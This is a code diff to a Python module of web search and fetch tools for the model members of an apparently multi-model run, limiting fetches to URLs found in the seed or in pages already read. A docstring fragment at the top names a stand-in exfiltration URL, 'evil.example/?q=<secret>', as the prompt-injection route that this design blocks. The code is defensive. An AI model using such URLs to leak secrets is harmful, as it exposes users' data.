@@ -15,6 +15,7 @@ https://evil.example/?q=<secret>" therefore cannot make a model send data anywhe
 from __future__ import annotations
 
 import json
+import logging
 import re
 from collections.abc import AsyncIterator, Iterable
 from contextlib import asynccontextmanager
@@ -26,9 +27,9 @@ import httpx2
 
 from ..config import Settings
 from ..models import Source
-from .extract import Page, to_text
+from .extract import Page, strip_invisible, to_text
 from .fence import Fence
-from .fetch import SYSTEM_NETWORK, Fetcher, FetchFailed, FetchRefused, Network
+from .fetch import SYSTEM_NETWORK, Fetched, Fetcher, FetchFailed, FetchRefused, Network
 from .search import MAX_RESULTS, Search, SearchUnavailable, make_search
 
 SEARCH = "web_search"
@@ -79,30 +80,59 @@ SPECS: list[dict[str, Any]] = [
         },
     },
 ]
-_URL = re.compile(r"""https?://[^\s<>"'`{}|\\^\[\]()]+""", re.IGNORECASE)
+_URL = re.compile(r"""https?://[^\s<>"'`{}|\\^\[\]]+""", re.IGNORECASE)
+MAX_PAGE_URLS = 1000
+"""URLs one page can make fetchable (its links, then URLs in its text): bounds the work on a link farm."""
+SCAN_CHARS = 200_000
+"""How much of a page's text is scanned for written URLs."""
+log = logging.getLogger(__name__)
 
 
 def normalise_url(url: str) -> str | None:
-    """The form URLs are compared in: parsed, fragment dropped, empty path as ``/``; None if unparsable."""
+    """The form URLs are compared in: scheme, lower-case host, port if not the default, path and query
+    (``/`` when empty); no user info, no fragment. None if it is not an http(s) URL."""
     try:
-        parsed = httpx2.URL(url.strip()).copy_with(fragment=None)
+        parsed = httpx2.URL(url.strip())
     except Exception:
         return None
     if parsed.scheme not in ("http", "https") or not parsed.host:
         return None
-    if not parsed.path:
-        parsed = parsed.copy_with(path="/")
-    return str(parsed)
+    path = parsed.raw_path.decode("ascii", "replace") or "/"
+    return f"{parsed.scheme}://{parsed.netloc.decode('ascii', 'replace')}{path}"
 
 
-def urls_in(text: str) -> set[str]:
-    """Every http(s) URL written in ``text``, trailing punctuation removed, normalised."""
-    found = set()
-    for match in _URL.finditer(text):
-        url = normalise_url(match.group().rstrip(".,;:!?*_~"))
-        if url is not None:
-            found.add(url)
+def urls_in(text: str, limit: int = MAX_PAGE_URLS) -> set[str]:
+    """The http(s) URLs written in ``text`` (at most ``limit``), trailing punctuation removed, normalised."""
+    found: set[str] = set()
+    for match in _URL.finditer(text[:SCAN_CHARS]):
+        url = match.group().rstrip(".,;:!?*_~'")
+        # Parentheses belong to the URL when balanced (Wikipedia's Foo_(bar)), else to the prose around it.
+        while url.endswith(")") and url.count(")") > url.count("("):
+            url = url[:-1].rstrip(".,;:!?*_~'")
+        normal = normalise_url(url)
+        if normal is not None:
+            found.add(normal)
+            if len(found) >= limit:
+                break
     return found
+
+
+def shown(url: str) -> str:
+    """A URL as it may appear outside the fence (it can come from a redirect the site chose): short, visible."""
+    url = strip_invisible(url)
+    return url if len(url) <= 300 else url[:300] + "..."
+
+
+def digest(fetched: Fetched) -> tuple[Page, frozenset[str]]:
+    """The page's text and the URLs it makes fetchable; CPU work, run in a worker thread."""
+    page = to_text(fetched.body, fetched.content_type, fetched.encoding, fetched.url)
+    known: set[str] = set()
+    for link in page.links[:MAX_PAGE_URLS]:
+        url = normalise_url(link)
+        if url is not None:
+            known.add(url)
+    known |= urls_in(page.text, MAX_PAGE_URLS - len(known)) if len(known) < MAX_PAGE_URLS else set()
+    return page, frozenset(known)
 
 
 class WebTools:
@@ -142,14 +172,14 @@ class RunWeb:
         self.fence = fence
         self.budget = tools.settings.web_max_chars
         self.chars_left = self.budget
-        self._pages: dict[str, tuple[str, Page] | str] = {}
+        self._pages: dict[str, tuple[str, Page, frozenset[str]] | str] = {}
 
     def toolbox(self, seed: str, known: Iterable[str] = ()) -> MemberWeb:
         """Tools for one member; it may fetch URLs written in ``seed`` and the ``known`` ones."""
         return MemberWeb(self, urls_in(seed) | set(known))
 
-    async def page(self, url: str) -> tuple[str, Page] | str:
-        """(final URL, page) for ``url``, fetched once per run; a string says why there is none."""
+    async def page(self, url: str) -> tuple[str, Page, frozenset[str]] | str:
+        """(final URL, page, URLs it links or names) for ``url``, fetched once per run; or why there is none."""
         cached = self._pages.get(url)
         if cached is not None:
             return cached
@@ -157,20 +187,18 @@ class RunWeb:
         try:
             fetched = await fetcher.fetch(url)
         except (FetchRefused, FetchFailed) as exc:
-            found: tuple[str, Page] | str = str(exc)
+            found: tuple[str, Page, frozenset[str]] | str = str(exc)
         else:
             if fetched.status >= 400:
-                found = f"failed: {fetched.url} answered HTTP {fetched.status}"
+                found = f"failed: {shown(fetched.url)} answered HTTP {fetched.status}"
             else:
-                # Extraction takes ~100 ms on a long page: in a worker thread, the event loop keeps streaming
-                # the other members' answers meanwhile.
-                page = await anyio.to_thread.run_sync(
-                    to_text, fetched.body, fetched.content_type, fetched.encoding, fetched.url
-                )
+                # Extraction takes ~100 ms on a long page (seconds on a hostile one): in a worker thread, so the
+                # event loop keeps streaming the other members, and abandoned if the member is cut off.
+                page, known = await anyio.to_thread.run_sync(digest, fetched, abandon_on_cancel=True)
                 if fetched.truncated:
                     note = f"\n\n[the page is longer than {fetcher.max_bytes:,} bytes; only its start was read]"
                     page = Page(page.title, page.text + note, page.links)
-                found = (fetched.url, page)
+                found = (fetched.url, page, known)
         self._pages[url] = found
         return found
 
@@ -193,6 +221,16 @@ class MemberWeb:
         return SPECS
 
     async def call(self, name: str, arguments: str) -> str:
+        try:
+            return await self._call(name, arguments)
+        except anyio.get_cancelled_exc_class():
+            raise
+        except Exception as exc:
+            # A bug or a page nobody foresaw must cost one tool result, not the member and the run.
+            log.exception("%s failed unexpectedly", name)
+            return f"failed: {name} hit an internal error ({type(exc).__name__}); try something else"
+
+    async def _call(self, name: str, arguments: str) -> str:
         try:
             args = json.loads(arguments or "{}")
         except ValueError:
@@ -237,8 +275,8 @@ class MemberWeb:
         if not isinstance(raw, str) or not raw.strip():
             return f'error: {FETCH} needs "url", an http or https URL'
         start = args.get("start", 0)
-        if isinstance(start, str) and start.strip().isdigit():
-            start = int(start)
+        if isinstance(start, str) and start.strip().isascii() and start.strip().isdecimal():
+            start = int(start.strip())
         if not isinstance(start, int) or isinstance(start, bool) or start < 0:
             return 'error: "start" must be a whole number >= 0'
         try:
@@ -256,14 +294,14 @@ class MemberWeb:
         found = await self.run.page(url)
         if isinstance(found, str):
             return found
-        final, page = found
-        self.known.add(final)
-        self.known.update(u for link in page.links if (u := normalise_url(link)) is not None)
-        self.known.update(urls_in(page.text))
+        final, page, known = found
+        if (normal := normalise_url(final)) is not None:
+            self.known.add(normal)
+        self.known |= known
         if not page.text:
-            return f"{final} has no readable text (it may need JavaScript, or be empty)"
+            return f"{shown(final)} has no readable text (it may need JavaScript, or be empty)"
         if start >= len(page.text):
-            return f"start={start} is past the end of {final} ({len(page.text):,} characters)"
+            return f"start={start} is past the end of {shown(final)} ({len(page.text):,} characters)"
         cap = self.run.tools.settings.fetch_max_chars
         granted = self.run.spend(min(cap, len(page.text) - start))
         if granted == 0:
@@ -273,7 +311,7 @@ class MemberWeb:
             self.sources.append(Source(url=final, title=page.title))
         part = f"characters {start:,}-{end:,} of {len(page.text):,}"
         more = f"; call {FETCH} with start={end} to read on" if end < len(page.text) else ""
-        head = f"{final} ({part}{more})"
+        head = f"{shown(final)} ({part}{more})"
         title = f"Title: {page.title}\n\n" if page.title else ""
         return f"{head}\n{self.run.fence.wrap(title + page.text[start:end], source=FETCH, url=final)}"
 
